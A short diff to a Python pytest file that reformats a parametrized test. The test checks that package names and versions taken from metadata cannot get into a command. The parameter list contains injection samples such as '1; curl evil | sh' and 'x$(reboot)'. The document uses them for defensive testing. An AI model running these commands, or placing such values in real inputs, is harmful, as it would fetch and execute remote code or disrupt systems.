@@ -100,8 +100,9 @@ def test_a_package_that_says_no_version_is_known_by_its_metadata(toylib):
 
 
 @pytest.mark.parametrize(
-    ("name", "version"), [("toylib", "1; curl evil | sh"), ("x$(reboot)", "1.0"), ("", "1.0"), ("toylib", "\x1b[2J"), ("--index-url", "1")]
-)  # fmt: skip
+    ("name", "version"),
+    [("toylib", "1; curl evil | sh"), ("x$(reboot)", "1.0"), ("", "1.0"), ("toylib", "\x1b[2J"), ("--index-url", "1")],
+)
 def test_what_is_no_package_or_version_gets_into_no_command(toylib, monkeypatch, name, version):
     monkeypatch.setattr(load_failure, "versions", lambda kinds: {name: version})
 
